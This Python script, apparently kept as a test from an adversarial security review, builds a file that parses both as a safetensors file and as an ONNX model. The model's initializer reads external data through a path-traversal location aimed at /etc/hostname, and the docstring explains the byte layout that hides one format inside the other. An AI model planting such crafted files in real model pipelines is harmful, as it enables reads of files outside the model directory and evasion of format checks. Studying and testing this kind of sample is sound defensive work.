"""An ONNX model that is also a well-formed safetensors file (an adversarial review's sample, kept as a test).

The model's one initializer reads external data at `d/../../../../../../../../etc/hostname` (onnx 1.12's
`onnx.load` follows it). In front of the model: field 6 (`doc_string`) holding six NULs and a safetensors JSON
header, then pairs of spaces (field 4, a varint onnx does not know and skips). The first eight bytes, read as a
little-endian length, then point just past the header, and its one U8 tensor covers the rest: safetensors reads a
valid file, onnx reads the model. Written as `polyglot.onnx` and `polyglot.safetensors` into OUT.

Usage: /usr/bin/python3 onnx_polyglots.py OUT
"""
import json
import os
import struct
import sys

from onnx import TensorProto, helper


def model():
    t = TensorProto()
    t.name = "W"
    t.data_type = TensorProto.UINT8
    t.dims.append(4)
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key = "location"
    e.value = "d/../../../../../../../../etc/hostname"
    node = helper.make_node("Identity", ["W"], ["Y"])
    g = helper.make_graph([node], "g", [], [helper.make_tensor_value_info("Y", TensorProto.UINT8, [4])],
                          initializer=[t])
    return helper.make_model(g, opset_imports=[helper.make_opsetid("", 13)]).SerializeToString()


def polyglot(base):
    header = json.dumps({"x": {"dtype": "U8", "shape": [len(base)], "data_offsets": [0, len(base)]}},
                        separators=(",", ":")).encode()
    for extra in range(4):
        payload = b"\0" * 6 + header + b" " * extra
        assert len(payload) < 128
        prefix = bytes([0x32, len(payload)]) + payload
        n = struct.unpack("<Q", prefix[:8])[0]
        spaces = (8 + n) - len(prefix)
        if spaces >= 0 and spaces % 2 == 0:
            return prefix + b" " * spaces + base
    raise SystemExit("no layout found")


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    data = polyglot(model())
    for name in ("polyglot.onnx", "polyglot.safetensors"):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
